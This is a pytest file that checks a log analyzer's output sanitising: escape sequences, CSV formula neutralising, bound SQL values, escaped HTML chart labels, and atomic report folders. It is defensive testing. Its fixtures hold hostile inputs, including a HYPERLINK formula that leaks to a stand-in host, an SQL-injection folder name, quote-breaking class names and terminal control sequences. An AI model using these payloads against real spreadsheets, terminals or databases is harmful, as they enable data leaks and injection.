"""Output side of bad input: what the logs say must reach a terminal, a markdown ticket, a spreadsheet and a
browser as inert text; --out is a path, never SQL; a report folder is complete or visibly not; a bad --out is
one clear line. The fixture call (tests/data/output/hostile_call.ndjson) has a formula for a call id, a link for
an app version, `< > & ' "` in its route, and terminal escape sequences and a bidi override in a log line."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import polars as pl
import pytest

from analyzer.render.escape import clean, csv_frame, md, md_code, term
from analyzer.render.output import MANIFEST, is_complete
from analyzer.render.tables import print_rows
from tests.conftest import DATA

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = DATA / "output" / "hostile_call.ndjson"
STATS_ONLY = DATA / "stats" / "app_upload_drop.ndjson"
CALL_ID = '=HYPERLINK("https://evil.example/?leak","open")'
ROUTE = "Speaker<&'\">"
MODEL = "iPhone<&'\">"
DEVICE = f"{MODEL} 22B83"  # the device's name: the sysdiagnose's model word and build
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
# what must never reach a terminal: ESC, BEL, the one-byte CSI, a right-to-left override
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def run(*args):
    return subprocess.run([sys.executable, "-m", "analyzer", *args], capture_output=True, text=True, cwd=ROOT)


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """The hostile call on a device whose model is `iPhone<&'">`, a stats-only call, and a call without a device
    (a gateway leg)."""
    base = tmp_path_factory.mktemp("store")
    device = base / f"sysdiagnose_2026.11.20_10-00-00-0800_iPhone-OS_{MODEL}_22B83"
    device.mkdir()
    shutil.copy(HOSTILE, device / "device_log.ndjson")
    db = base / "fleet.duckdb"
    out = run("ingest", str(device), str(STATS_ONLY), "--db", str(db), "-q")
    assert out.returncode == 0, out.stderr
    import duckdb

    con = duckdb.connect(str(db))
    con.execute(
        "INSERT INTO calls SELECT 'GW-leg', NULL, start_ts, end_ts, 'explicit_id', true, NULL, 0, 1, NULL, NULL, "
        "'no device stats', true, NULL, NULL, NULL, NULL FROM calls WHERE call_id = 'C-drop'"
    )
    con.close()
    return db


def _copy(store: Path, tmp_path: Path):
    from analyzer.store.db import connect

    db = tmp_path / "copy.duckdb"
    shutil.copy(store, db)
    return connect(db)


# --- control characters: one sanitising for terminal, markdown and CSV ---------------------------------------


def test_clean_shows_every_control_character():
    s = "a\x1b]0;title\x07b\x1b[2Jc\x9b31m\u202eevil\u2066\x00\x7f\rd\r\ne\tf"
    out = clean(s)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u2066]", out)
    assert out == r"a\x1b]0;title\x07b\x1b[2Jc\x9b31m\u202eevil\u2066\x00\x7f\x0dd" + "\ne\tf"
    hidden = clean("C-1\u200b\u2028\ufeff\xad2")
    assert hidden == r"C-1\u200b\u2028\ufeff\xad2"  # ids that would look alike, or break a line unseen
    assert clean(out) == out  # once is enough: a second pass changes nothing
    for safe in (md(s), md_code(s), term(s)):
        assert not any(c in safe for c in RAW_CONTROLS)


def test_tables_do_not_pass_escape_sequences(capsys):
    rows = [["\x1b]0;pwned\x07 \x1b[2J \u202eevil", 1]]
    for fmt in ("table", "markdown", "json"):
        print_rows(["cell\x1b[31m", "n"], rows, fmt, title="t\x1b[5m")
        out = capsys.readouterr().out
        assert not any(c in out for c in RAW_CONTROLS), fmt
        assert "pwned" in out, fmt


@pytest.mark.parametrize("fmt", ["markdown", "table", "json"])
def test_triage_output_shows_log_controls_as_text(fmt):
    out = run("triage", str(HOSTILE), "--format", fmt, "--no-model")
    assert out.returncode in (0, 1), out.stderr
    assert not any(c in out.stdout for c in RAW_CONTROLS)
    if fmt != "json":
        assert r"\x1b]0;pwned\x07" in out.stdout.replace("\\\\", "\\")  # markdown backslashes a backslash


def test_error_messages_do_not_pass_escape_sequences(tmp_path):
    bad = tmp_path / "bad\x1b]0;pwned\x07.ndjson"
    out = run("ingest", str(bad), "--db", ":memory:")
    assert out.returncode == 2 and "Traceback" not in out.stderr
    assert not any(c in out.stdout + out.stderr for c in RAW_CONTROLS)
    assert r"bad\x1b]0;pwned\x07.ndjson: no such file" in out.stdout + out.stderr


# --- CSV: formulas neutralised in text cells, numbers left alone ----------------------------------------------


def test_csv_cells_neutralised_numbers_kept():
    frame = pl.DataFrame(
        {
            "text": ["=1+1", "+cmd", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-5", "+1.5e3", "plain", None, "a\x1b[2J"],
            "number": [-1, -2, -3, -4, -5, -6, -7, -8, -9, -10, -11],
        }
    )
    out = csv_frame(frame)
    assert out["text"].to_list() == [
        "'=1+1",
        "'+cmd",
        "'-1+2",
        "'@SUM(A1)",
        "'\t=1",
        r"\x0d=1",
        "-5",
        "+1.5e3",
        "plain",
        None,
        r"a\x1b[2J",
    ]
    assert out["number"].to_list() == frame["number"].to_list() and out["number"].dtype == pl.Int64


# --- the report: --out is a path, CSV cells safe, labels escaped, complete or not --------------------------------


@pytest.fixture(scope="module")
def report(store, tmp_path_factory):
    """One report into a folder whose name is an attempt at SQL injection through --out."""
    base = tmp_path_factory.mktemp("reports")
    out = base / "bob's reports') TO 'pwned.csv' (FORMAT csv); --"
    res = run("report", "--db", str(store), "--out", str(out))
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    return out


def test_out_is_a_path_not_sql(report):
    assert sorted(p.name for p in report.iterdir()) == [
        "calls.csv",
        "calls.parquet",
        "findings.csv",
        "findings.parquet",
        MANIFEST,
        "report.html",
    ]
    assert list(report.parent.iterdir()) == [report] and not (ROOT / "pwned.csv").exists()


def test_report_csv_neutralises_formulas(report):
    with open(report / "calls.csv", newline="") as fh:
        calls = {r["route"]: r for r in csv.DictReader(fh)}
    assert calls[ROUTE]["call_id"] == "'" + CALL_ID
    with open(report / "findings.csv", newline="") as fh:
        ids = {r["call_id"] for r in csv.DictReader(fh)}
    assert "'" + CALL_ID in ids and CALL_ID not in ids
    parquet = pl.read_parquet(report / "calls.parquet")
    assert CALL_ID in parquet["call_id"].to_list()  # the data file keeps the value as logged


def _json_strings(page: str, needle: str) -> list[str]:
    """The JSON string literals in a page that contain `needle`, decoded."""
    found = re.findall(r'"(?:[^"\\]|\\.)*' + re.escape(needle) + r'(?:[^"\\]|\\.)*"', page)
    return [json.loads(s) for s in found]


def test_report_chart_labels_are_escaped(report):
    page = (report / "report.html").read_text()
    labels = _json_strings(page, "3.4.1")
    assert labels, "the app version chart has the version"
    assert all("<a" not in s for s in labels)
    assert any(s.startswith("&lt;a href=") for s in labels)


def test_report_folder_complete_only_when_whole(store, tmp_path, monkeypatch):
    from analyzer.errors import OutputError
    from analyzer.render import output, report

    con = _copy(store, tmp_path)
    out = tmp_path / "week"
    report.write_report(con, out, None, None)
    assert is_complete(out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    # stopped after the data files were written, before the page: the last report stays whole and complete
    con.execute("DELETE FROM calls WHERE call_id = 'C-drop'")

    def stopped(*args):
        raise KeyboardInterrupt

    monkeypatch.setattr(report, "_page", stopped)
    with pytest.raises(KeyboardInterrupt):
        report.write_report(con, out, None, None)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert is_complete(out)
    monkeypatch.undo()

    # stopped while the files are renamed into place: no manifest, so the folder is not complete
    renamed = []

    def replace_then_fail(src, dst):
        if len(renamed) == 2:
            raise OSError(28, "No space left on device")
        renamed.append(dst)
        os.rename(src, dst)

    monkeypatch.setattr(output.os, "replace", replace_then_fail)
    with pytest.raises(OutputError, match="No space left"):
        report.write_report(con, out, None, None)
    assert not (out / MANIFEST).exists() and not is_complete(out)
    monkeypatch.undo()

    (out / ".calls.csv.partial").write_text("left by a run killed mid-file")
    report.write_report(con, out, None, None)  # the next run completes it, and leaves no temporary file
    assert is_complete(out) and not [p for p in out.iterdir() if p.name.startswith(".")]
    (out / "calls.csv").write_text("changed\n")
    assert not is_complete(out)


def test_bad_out_is_one_clear_line(store, tmp_path):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    cases = [
        (("report", "--out", str(a_file)), "is a file, not a folder"),
        (("report", "--out", str(a_file / "sub")), f"{a_file} is a file, not a folder"),
        (("dashboard", "--out", str(tmp_path)), "is a folder; give the file to write"),
        (("dashboard", "--out", str(a_file / "d.html")), f"{a_file} is a file, not a folder"),
    ]
    for args, message in cases:
        out = run(*args, "--db", str(store))
        assert out.returncode == 2, args
        assert "Traceback" not in out.stderr and out.stderr.count("\n") == 1, out.stderr
        assert out.stderr.startswith(f"error: --out {args[2]}: ") and message in out.stderr, out.stderr
    assert a_file.read_text() == "x"


# --- SQL built from values: bound, never pasted --------------------------------------------------------------


def test_model_class_names_are_bound(store, tmp_path):
    from analyzer.classify.model import load, predict

    con = _copy(store, tmp_path)
    model = load()
    names = [f"{c}' OR '1" for c in model.classes]
    predict(con, replace(model, classes=names))
    (probs,) = con.execute("SELECT probabilities FROM predictions LIMIT 1").fetchone()
    assert list(json.loads(probs)) == names


# --- the dashboard: values as text, filters that match, scripts that tolerate missing values -------------------


def test_dashboard_carries_values_as_stored(store, tmp_path):
    from analyzer.render.dashboard import dashboard_data

    con = _copy(store, tmp_path)
    data = dashboard_data(con)
    col = {c: i for i, c in enumerate(data["columns"])}
    rows = {r[col["call_id"]]: r for r in data["calls"]}
    # the sysdiagnose's name names the device (its model word is no model identifier); a call without one: unknown
    assert rows[CALL_ID][col["route"]] == ROUTE and rows[CALL_ID][col["device"]] == DEVICE
    assert rows["GW-leg"][col["device"]] == "unknown"


def _browser(p):
    browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
    page = browser.new_page(viewport={"width": 1300, "height": 1600})
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    return browser, page, errors


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is installed by .ci/run")
def test_dashboard_in_a_browser_with_hostile_and_missing_values(store, tmp_path):
    from playwright.sync_api import sync_playwright

    dash = tmp_path / "dashboard.html"
    out = run("dashboard", "--db", str(store), "--out", str(dash))
    assert out.returncode == 0, out.stderr
    with sync_playwright() as p:
        browser, page, errors = _browser(p)
        page.goto(dash.as_uri())
        page.wait_for_selector("#overview svg.main-svg")
        assert page.locator("tr.call").count() == 3
        for query, n in (("gw", 1), ("hyperlink", 1), ("iphone<", 1), ("nothing like it", 0), ("", 3)):
            page.fill("#f_search", query)
            assert page.locator("tr.call").count() == n, query
        page.select_option("#f_route", label=ROUTE)
        assert page.locator("tr.call").count() == 1
        assert page.locator("tr.call td").first.inner_text() == CALL_ID
        page.select_option("#f_route", label="all")
        page.select_option("#f_device", label=DEVICE)
        assert page.locator("tr.call").count() == 1
        page.select_option("#f_device", label="unknown")
        assert page.locator("tr.call").count() == 2  # the gateway leg and the stats-only call: no device named
        page.click("tr.call:has-text('GW-leg')")
        assert "Call GW-leg" in page.inner_text("#calltitle")
        page.select_option("#f_device", label="all")
        page.fill("#f_search", "C-drop")
        page.click("tr.call")
        page.wait_for_selector("#timeline svg.main-svg")
        assert page.locator("a[href*='evil.example']").count() == 0
        browser.close()
    assert errors == []


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is installed by .ci/run")
def test_report_labels_in_a_browser(report):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser, page, errors = _browser(p)
        page.goto((report / "report.html").as_uri())
        page.wait_for_selector("svg.main-svg")
        assert page.locator("svg a[href*='evil.example']").count() == 0
        assert page.locator("svg text", has_text="<a href=").count() >= 1  # the label shows what was logged
        browser.close()
    assert errors == []
